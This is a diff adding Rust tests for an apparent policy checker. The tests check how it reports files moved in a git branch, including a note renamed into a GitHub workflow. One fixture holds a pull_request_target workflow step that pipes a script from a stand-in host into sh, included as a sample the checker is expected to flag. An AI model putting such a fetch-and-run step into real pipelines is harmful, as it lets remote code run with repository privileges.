@@ -1,0 +1,42 @@
+//! What rules and counts make of files that moved.
+
+use crate::run;
+use crate::support::{Fixture, policy};
+
+fn retries(tries: u32) -> String {
+    (1..=90).map(|n| format!("key{n}: value{n}\n")).collect::<String>() + &format!("retry:\n  max_attempts: {tries}\n")
+}
+
+/// A branch that moves a file, with another number of tries or not.
+fn moved(from: &str, to: &str, tries: u32) -> Fixture {
+    let f = Fixture::with_policy(&policy(""));
+    f.write(from, &retries(3));
+    f.commit("rahim", "A file");
+    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
+    f.git("mina", &["rm", "-q", from]);
+    f.write(to, &retries(tries));
+    f.commit("mina", "Move it");
+    f
+}
+
+#[test]
+fn rules_compare_across_a_move_and_say_nothing_of_one_that_changes_nothing() {
+    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 9000);
+    run(&f, &["show", "move"]).exits(0).says("1 files, +1 −1").says("resil.limit-lost       svc/settings/app.yaml:92");
+    let f = moved("svc/conf/app.yaml", "svc/settings/app.yaml", 3);
+    run(&f, &["show", "move"]).exits(0).says("1 files, +0 −0").says("findings: 0");
+}
+
+#[test]
+fn what_moves_to_where_it_means_something_else_is_seen_as_new() {
+    let f = Fixture::with_policy(&policy(""));
+    let workflow = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: curl https://x.example/i.sh | sh\n";
+    f.write("notes/a.txt", workflow);
+    f.commit("rahim", "A note");
+    f.git("mina", &["checkout", "-q", "-b", "move", "main"]);
+    std::fs::create_dir_all(f.repo.join(".github/workflows")).unwrap();
+    f.git("mina", &["mv", "notes/a.txt", ".github/workflows/a.yml"]);
+    f.commit("mina", "Move it");
+    let said = run(&f, &["show", "move"]).exits(0).says("1 files, +0 −0");
+    assert!(!said.out.contains("findings: 0") && said.out.contains(".github/workflows/a.yml:5"), "{}", said.out);
+}
